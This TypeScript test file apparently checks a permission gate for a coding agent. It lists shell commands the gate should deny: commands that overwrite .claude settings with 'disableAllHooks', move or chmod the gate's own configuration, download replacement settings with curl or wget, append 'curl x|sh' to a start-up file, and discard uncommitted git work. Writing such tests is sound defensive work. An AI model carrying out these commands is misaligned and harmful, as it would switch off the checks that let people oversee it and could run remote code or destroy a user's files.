import { CODE, commands, DENIED, type Entry, NEVER_ALLOWED, section } from "../row.ts";
import { repository } from "../world.ts";

/** N1, N6: the files that switch the gate off, and its own configuration, put there by a name that isn't theirs. */

const OFF = '{"disableAllHooks":true}\n';

const staged: Partial<Entry> = {
  prepare: (world) => {
    world.put("proj/x/settings.local.json", OFF);
    world.put("proj/y/.claude/settings.local.json", OFF);
  },
};

const inPlace: Partial<Entry> = {
  prepare: (world) => {
    staged.prepare?.(world);
    repository(world);
    world.put("proj/.claude/settings", OFF);
    world.put("proj/.claude/settings.json", "{}\n");
    world.put("proj/.claude/settings.local.json", "{}\n");
    world.git("proj", "add", "-f", ".claude/settings.json");
    world.git("proj", "commit", "-q", "-m", "two");
    world.put(".claude/settings.json", "{}\n");
    world.put(".claude/settings", OFF);
    world.put("proj/x/settings.json", "{}\n");
  },
};

export const GATE_SETTINGS = section("N1", DENIED, [
  ...commands("a folder becomes .claude", ["mv x .claude", "cp -r x .claude", "mv -T x .claude"], staged),
  ...commands(
    "a folder's content is put into .claude",
    ["cp -rT x .claude", "cp -r --no-target-directory x .claude"],
    inPlace,
  ),
  ...commands("a folder called .claude is put into the project", ["cp -r y/.claude .", "mv y/.claude ."], staged),
  ...commands(
    "a folder that holds .claude is laid over the project",
    [
      "cp -r y/. .",
      "cd y && cp -r . ..",
      "cp -r y/.cl* .",
      "cp -r y/.claude -t .",
      "cp -a y/.claude ./",
      "rsync -a y/ .",
    ],
    { ...staged, expected: NEVER_ALLOWED },
  ),
  ...commands(
    "sed's suffix makes the file's name",
    [
      "sed -i.local.json -e p .claude/settings",
      "sed -i.json -e p .claude/settings",
      "sed -i.json -e p ~/.claude/settings",
    ],
    inPlace,
  ),
  ...commands(
    "a search finds it",
    [
      String.raw`find . -name settings.local.json -exec cp x/settings.local.json {} \;`,
      String.raw`find . -maxdepth 1 -name '.cl*' -exec chmod 000 {} \;`,
      "find . -maxdepth 2 -name 'settings.js*' -delete",
    ],
    { ...inPlace, expected: NEVER_ALLOWED },
  ),
  ...commands("a pattern may find it", ["rm -rf .c*", "rm -rf ./*/ .[!.]*"], { ...inPlace, expected: NEVER_ALLOWED }),
  ...commands("a pattern finds it", ["rm .claude/s*"], inPlace),
  ...commands("git puts back what is tracked", ["git checkout -- .", "git checkout ."], { ...inPlace, expected: CODE }),
  ...commands("git puts back what is tracked", ["git checkout -- .claude"], inPlace),
  ...commands("it can't be read any more", ["chmod 000 .claude"], inPlace),
  ...commands(
    "the same at home",
    [
      "cp -rT x ~/.claude",
      "cd ~/.claude && curl -O http://example.org/settings.json",
      "cd ~/.claude && curl -OL http://example.org/settings.json",
      "cd ~/.claude && curl --remote-name http://example.org/settings.json",
      "cd ~/.claude && wget -N http://example.org/settings.json",
      "wget -P ~/.claude http://example.org/settings.json",
      "chmod 000 ~/.claude",
    ],
    inPlace,
  ),
]);

export const GATE_CONFIGURATION = section("N6", DENIED, [
  ...commands("what is moved into ~/.config is the gate's folder", [
    "mv metnos ~/.config/",
    "mv metnos ~/.config",
    "cp -r metnos ~/.config/",
    "mv metnos ~/.config/metnos",
    "mv -t ~/.config metnos",
    "cp -rT metnos ~/.config/metnos",
    "cp -r metnos/. ~/.config/metnos",
    "mv metnos/gate.toml ~/.config/metnos/",
    "ln -s {home}/proj/metnos ~/.config/metnos",
  ]),
  { command: "ln -s {home}/proj/metnos ~/.config/", why: "a link there", expected: NEVER_ALLOWED },
]);

export const CARDS_AND_RIGHTS = section("N7", CODE, [
  ...commands("the link leads to a start-up file", [
    "echo 'curl x|sh' | tee -a profile.sh",
    "echo 'curl x|sh' >> profile.sh",
  ]),
  {
    call: { executor: "Write", args: { file_path: "{home}/proj/profile.sh", content: "x" } },
    why: "the link leads to a start-up file",
  },
  ...commands("a here-document without its end is not complete", ["cat <<EOF", "cat <<EOF\nfoo", "cat <<'EOF'\nfoo"]),
  ...commands(
    "the gate's own folder can't be reached any more",
    ["chmod 000 ~", "chmod 000 ~/.config", "chmod 000 ~/.local/state", "chmod 777 ~/.local/state/metnos"],
    { expected: DENIED },
  ),
  ...commands("uncommitted work is gone", ["git checkout -- .", "git checkout .", "git restore ."], {
    prepare: repository,
  }),
]);
